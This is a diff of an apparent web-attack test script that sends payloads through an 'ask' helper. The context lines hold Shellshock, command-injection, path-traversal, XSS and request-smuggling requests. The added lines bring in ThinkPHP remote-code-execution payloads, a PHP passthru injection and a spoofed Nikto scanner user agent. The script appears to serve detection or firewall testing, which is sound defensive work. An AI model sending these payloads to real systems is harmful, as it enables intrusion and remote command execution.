@@ -15,6 +15,10 @@ ask -A '() { :;}; /bin/id' "$url/cgi-bin/status"
 ask -G "$url/ping" --data-urlencode 'host=127.0.0.1; cat /etc/passwd'
 ask "$url/static/../../../etc/passwd"
 ask -G "$url/search" --data-urlencode 'q=<script>alert(1)</script>'
+ask "$url/index.php?s=/Index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars\[0\]=phpinfo&vars\[1\]\[\]=1"
+ask -d '_method=__construct&filter[]=system&method=get&server[REQUEST_METHOD]=id' "$url/index.php?s=captcha"
+ask -G "$url/page" --data-urlencode "name='.passthru(\$_GET[c]).'"
+ask -A 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000562)' "$url/"
 ask -H 'Content-Length: -5' -X POST "$url/"
 ask -H 'Transfer-Encoding: chunked' -H 'Content-Length: 4' --data-binary x "$url/"
 ask -H 'Transfer-Encoding: xchunked' -X POST "$url/"
